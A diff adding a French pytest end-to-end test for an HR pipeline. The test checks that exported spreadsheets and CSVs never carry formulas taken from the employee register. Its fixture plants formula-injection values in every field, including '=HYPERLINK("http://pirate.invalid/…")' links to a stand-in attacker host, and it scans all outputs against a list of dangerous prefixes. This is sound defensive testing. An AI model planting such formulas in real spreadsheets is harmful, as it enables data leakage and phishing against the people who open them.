@@ -1,0 +1,203 @@
+"""Fiabilité de bout en bout : aucun tableur produit ne porte de formule venue du registre."""
+
+from __future__ import annotations
+
+import csv
+import io
+import shutil
+import zipfile
+from datetime import date
+from pathlib import Path
+
+import openpyxl
+import pytest
+from click.testing import CliRunner
+
+from pipeline.cli import cli
+
+RACINE = Path(__file__).resolve().parent.parent
+AU = "2026-11-27"
+DANGEREUX = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def projet(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """Un dossier de travail comme celui de l'assistante RH : données et modèles livrés."""
+    shutil.copytree(RACINE / "donnees", tmp_path / "donnees")
+    monkeypatch.chdir(tmp_path)
+    return tmp_path
+
+
+def invoquer(*args: str) -> tuple[int, str]:
+    resultat = CliRunner().invoke(cli, list(args), catch_exceptions=False)
+    return resultat.exit_code, resultat.output
+
+
+# --------------------------------------------------------------------------- registres
+
+
+def _classeur(chemin: Path, feuilles: dict[str, list[list[object]]]) -> Path:
+    """Un registre dont les textes sont des cellules texte, même « =… » (pas des formules)."""
+    classeur = openpyxl.Workbook()
+    classeur.remove(classeur.active)
+    for titre, lignes in feuilles.items():
+        feuille = classeur.create_sheet(titre)
+        for ligne in lignes:
+            feuille.append(ligne)
+        for rangee in feuille.iter_rows():
+            for cellule in rangee:
+                if isinstance(cellule.value, str):
+                    cellule.data_type = "s"
+    classeur.save(chemin)
+    return chemin
+
+
+EN_TETES_SALARIES = [
+    "Matricule", "Civilité", "Nom", "Prénom", "Email", "Date de naissance", "Date d'entrée",
+    "Poste", "Service", "Établissement", "Matricule manager", "Adresse", "Code postal", "Ville",
+    "Notes",
+]  # fmt: skip
+
+
+def _salarie(matricule: str, nom: str, prenom: str, email: str = "", **autres: object) -> list:
+    valeurs = {
+        "Matricule": matricule, "Civilité": "M.", "Nom": nom, "Prénom": prenom, "Email": email,
+        "Date de naissance": date(1985, 3, 1), "Date d'entrée": date(2025, 10, 6),
+        "Poste": "Technicien", "Service": "Atelier", "Établissement": "Lyon",
+        "Matricule manager": "", "Adresse": "1 rue des Lilas", "Code postal": "69003",
+        "Ville": "Lyon", "Notes": "",
+    } | autres  # fmt: skip
+    return [valeurs[c] for c in EN_TETES_SALARIES]
+
+
+# --------------------------------------------------------------------------- formules
+
+
+def _registre_piege(chemin: Path) -> Path:
+    """Une formule dans chaque champ texte du registre, comme un collage malveillant."""
+
+    def piege(texte: str) -> str:
+        return f'=HYPERLINK("http://pirate.invalid/{texte}","{texte}")'
+
+    salaries = [
+        EN_TETES_SALARIES,
+        _salarie(
+            "=1+1", piege("Dupont"), "+Jean", "=cmd@exemple.fr",
+            Civilité="=civ", Poste="-poste", Service=piege("RH"), Établissement="@etab",
+            **{"Matricule manager": "M2", "Adresse": piege("adresse"), "Code postal": "=69003",
+               "Ville": "+Lyon", "Notes": piege("notes")},
+        ),
+        # Sans adresse électronique : une ligne de courrier papier.
+        _salarie(
+            "M2", "-Martin", "@Claire", "", Service="-Compta", Poste="@resp",
+            **{"Adresse": piege("rue"), "Ville": "@Ville", "Notes": "+notes"},
+        ),
+        # Huit ans d'ancienneté : état des lieux, abondement correctif au tableau de bord.
+        _salarie(
+            "00003", "@Bernard", "=Luc", "+luc@exemple.fr", Service="+Atelier",
+            **{"Date d'entrée": date(2018, 11, 20), "Poste": piege("poste")},
+        ),
+    ]  # fmt: skip
+    return _classeur(
+        chemin,
+        {
+            "Salariés": salaries,
+            "Entretiens": [
+                ["Matricule", "Date", "Type", "Conduit par", "Commentaire"],
+                ["00003", date(2020, 1, 10), "periodique", piege("conducteur"), "+commentaire"],
+            ],
+            "Formations": [
+                ["Matricule", "Intitulé", "Date", "Obligatoire", "Certifiante"],
+                ["=1+1", piege("formation"), date(2026, 1, 10), "oui", "non"],
+            ],
+            "Évolutions": [
+                ["Matricule", "Date", "Nature", "Commentaire"],
+                ["=1+1", date(2026, 2, 1), "salariale", piege("evolution")],
+            ],
+        },
+    )
+
+
+def _cellules_dangereuses(nom: str, contenu: bytes) -> list[str]:
+    """Les formules (ou textes qu'Excel prendrait pour des formules) d'un .xlsx ou .csv."""
+    fautes = []
+    if nom.endswith(".xlsx"):
+        # Lu en mode normal : quotePrefix (le « ' » d'Excel) n'est visible qu'ainsi.
+        classeur = openpyxl.load_workbook(io.BytesIO(contenu))
+        for feuille in classeur.worksheets:
+            for rangee in feuille.iter_rows():
+                for c in rangee:
+                    if c.data_type == "f":
+                        fautes.append(f"{nom}!{feuille.title}!{c.coordinate} formule {c.value!r}")
+                    elif (
+                        isinstance(c.value, str)
+                        and c.value.startswith(DANGEREUX)
+                        and not c.quotePrefix
+                    ):
+                        fautes.append(f"{nom}!{feuille.title}!{c.coordinate} texte {c.value!r}")
+    else:
+        texte = contenu.decode("utf-8-sig")
+        for numero, ligne in enumerate(csv.reader(io.StringIO(texte), delimiter=";"), 1):
+            fautes += [f"{nom}:{numero} {v!r}" for v in ligne if v.startswith(DANGEREUX)]
+    return fautes
+
+
+def test_aucune_formule_venue_du_registre_dans_aucun_tableur(projet: Path) -> None:
+    """Chaque .xlsx et .csv qu'une campagne complète produit, relu cellule par cellule."""
+    from test_envoi_smtp import demarrer  # serveur SMTP local (aiosmtpd) pour le journal
+
+    registre = _registre_piege(projet / "registre.xlsx")
+    options = ("--registre", str(registre), "--au", AU)
+    code, sortie = invoquer("verifier", "--registre", str(registre))
+    assert code == 0, sortie
+    for commande in (
+        ("echeances", "--tout", "--sortie", "echeances.csv"),
+        ("echeances", "--tout", "--sortie", "echeances.xlsx"),
+        ("planifier",),
+        ("convocations", "--jobs", "2"),
+        ("publipostage",),
+    ):
+        code, sortie = invoquer(*commande, *options)
+        assert code == 0, (commande, sortie)
+    controleur, collecteur = demarrer()
+    try:
+        code, sortie = invoquer(
+            "publipostage", *options, "--envoyer", "--reel", "--oui", "--pause", "0",
+            "--hote", "127.0.0.1", "--port", str(controleur.port), "--securite", "aucune",
+        )  # fmt: skip
+    finally:
+        controleur.stop()
+    assert code == 0 and len(collecteur.recus) == 2, sortie
+    for commande in (("archiver",), ("tableau-de-bord",)):
+        code, sortie = invoquer(*commande, *options)
+        assert code == 0, (commande, sortie)
+
+    tableurs: dict[str, bytes] = {}
+    for chemin in projet.rglob("*"):
+        if chemin.suffix in (".xlsx", ".csv") and chemin != registre:
+            tableurs[chemin.relative_to(projet).as_posix()] = chemin.read_bytes()
+    archive = projet / "sorties" / "archives" / f"{AU}.zip"
+    with zipfile.ZipFile(archive) as zf:
+        for nom in zf.namelist():
+            if nom.endswith((".xlsx", ".csv")):
+                tableurs[f"{archive.name}:{nom}"] = zf.read(nom)
+    # Les copies du registre (_sources) sont l'entrée de l'utilisateur, pas une sortie.
+    tableurs = {nom: c for nom, c in tableurs.items() if "/_sources/" not in nom}
+    attendus = {
+        "echeances.csv", "echeances.xlsx", f"sorties/{AU}/echeances.xlsx",
+        f"sorties/{AU}/planning.xlsx", f"sorties/{AU}/manifeste.csv",
+        f"sorties/{AU}/publipostage/publipostage.xlsx",
+        f"sorties/{AU}/publipostage/publipostage.csv",
+        f"sorties/{AU}/publipostage/courriers_papier.csv",
+        f"sorties/{AU}/publipostage/envois.csv", "sorties/archives/index.csv",
+        f"{AU}.zip:manifeste.csv", "sorties/tableau_de_bord.xlsx",
+    }  # fmt: skip
+    assert attendus <= set(tableurs), sorted(attendus - set(tableurs))
+    fautes = [
+        f for nom, contenu in sorted(tableurs.items()) for f in _cellules_dangereuses(nom, contenu)
+    ]
+    assert not fautes, "\n".join(fautes)
+    # Les textes piégés sont bien là, imprimés tels quels : la protection ne les perd pas.
+    synthese = openpyxl.load_workbook(projet / "sorties" / "tableau_de_bord.xlsx")["Synthèse"]
+    services = [c.value for c in synthese["A"] if isinstance(c.value, str)]
+    assert '=HYPERLINK("http://pirate.invalid/RH","RH")' in services
